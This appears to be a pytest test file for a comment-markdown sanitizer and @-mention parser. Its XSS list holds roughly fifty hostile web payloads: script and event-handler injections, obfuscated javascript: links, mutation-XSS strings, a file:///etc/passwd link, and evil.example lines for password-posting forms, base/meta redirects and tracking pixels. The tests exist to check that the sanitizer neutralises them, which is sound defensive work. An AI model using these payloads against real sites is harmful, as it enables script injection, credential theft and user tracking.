"""Markdown of comments: nothing that runs, loads or pretends gets out, and code mentions nobody."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hivesync_server.comments.markdown import MENTIONS_MAX, mentioned, safe_html

_PLAIN = "blockquote br code em h1 h2 h3 h4 h5 h6 hr li p pre s strong table tbody td th thead tr ul"
HARMLESS: dict[str, set[str]] = {tag: set() for tag in _PLAIN.split(" ")} | {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
}
WITHIN = ("{}", "> {}", "* {}", "**{}**", "@ann {} @bob", "a\n\n{}\n\nb")

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<x onclick=alert(1) style=position:fixed;inset:0>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](vscode://run?cmd=x)",
    "[x](blob:https://example.com/1)",
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://a.example "\\" onmouseover=alert(1) ")',
    '[x](https://a.example/"onmouseover=alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror=alert(1)](x)',
    "![x][i]\n\n[i]: https://evil.example/pixel.gif",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onclick=alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<div\n\n<script>alert(1)</script>",
    '|a|<script>|\n|-|-|\n|<img src=x onerror=alert(1)>|"|',
    "@<script>alert(1)</script> @ann<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# x {#id .class onclick=alert(1)}",
    '**<a href="jav&#x61;script:alert(1)">**',
]


class _Auditor(HTMLParser):
    """Reads HTML as a browser would, and notes everything that is not known to be harmless."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS:
            self.bad.append(tag)
            return
        self.bad += [f"{tag} {name}" for name, _ in attrs if name not in HARMLESS[tag]]
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_comment(self, data: str) -> None:
        self.bad.append(data)

    def handle_decl(self, decl: str) -> None:
        self.bad.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.bad.append(data)

    def handle_pi(self, data: str) -> None:
        self.bad.append(data)


def _audit(html: str) -> _Auditor:
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor


@pytest.mark.parametrize("typed", XSS)
def test_nothing_dangerous_comes_out(typed: str) -> None:
    for within in WITHIN:
        found = _audit(safe_html(within.format(typed)))
        assert found.bad == [], within
        assert {urlsplit(link).scheme for link in found.links} <= {"http", "https", "mailto", ""}, within


def test_the_audit_sees_what_is_dangerous() -> None:
    for typed in XSS[:19]:
        found = _audit(typed)
        assert found.bad or found.links, typed


def test_what_people_write_looks_as_they_mean_it() -> None:
    html = safe_html("**b** _i_ ~~s~~ `c`\nnext\n\n3. three\n\n> q\n\n```py\n<x>\n```\n\n|h|\n|-|\n|d|\n")
    for part in (
        "<strong>b</strong> <em>i</em> <s>s</s> <code>c</code><br>\nnext",
        '<ol start="3">',
        "<blockquote>",
        "<pre><code>&lt;x&gt;\n</code></pre>",
        "<th>h</th>",
        "<td>d</td>",
    ):
        assert part in html


def test_raw_html_is_shown_as_it_was_typed() -> None:
    assert safe_html("<b>x</b>\n\n<div>y</div>") == (
        "<p>&lt;b&gt;x&lt;/b&gt;</p>\n<p>&lt;div&gt;y&lt;/div&gt;</p>\n"
    )


def test_links_do_not_vouch_for_where_they_lead() -> None:
    html = safe_html("[a](https://a.example) <https://b.example> [m](mailto:a@example.com)")
    assert html.count('rel="noopener noreferrer nofollow"') == 3


def test_an_image_is_a_link_that_loads_nothing() -> None:
    html = safe_html("![alt](https://a.example/x.png)")
    assert "<img" not in html
    assert '<a href="https://a.example/x.png"' in html


@pytest.mark.parametrize(
    ("body", "names"),
    [
        ("@ann", ["ann"]),
        ("hello @Ann, (@bob) and @ann!", ["ann", "bob"]),
        ("**@ann** [@bob](https://x.example) > @cid", ["ann", "bob", "cid"]),
        ("# @ann\n\n* @bob\n\n|h|\n|-|\n|@cid|", ["ann", "bob", "cid"]),
        ("@ann_b_c @_ann_ @a-b", ["ann_b_c", "_ann_", "a-b"]),
        ("`@ann` ```@bob``` \n\n    @cid\n\n```\n@dan\n```", []),
        ("ann@bob.example a.@bob x+@bob <ann@bob.example>", []),
        ("@an @" + "x" * 33 + " @ ann @@", []),
        (r"\@ann", []),
        ("<b>@ann</b>", ["ann"]),
    ],
)
def test_whom_a_comment_mentions(body: str, names: list[str]) -> None:
    assert mentioned(body) == names


def test_a_comment_mentions_not_more_than_some() -> None:
    assert len(mentioned(" ".join(f"@user{number}" for number in range(900)))) == MENTIONS_MAX
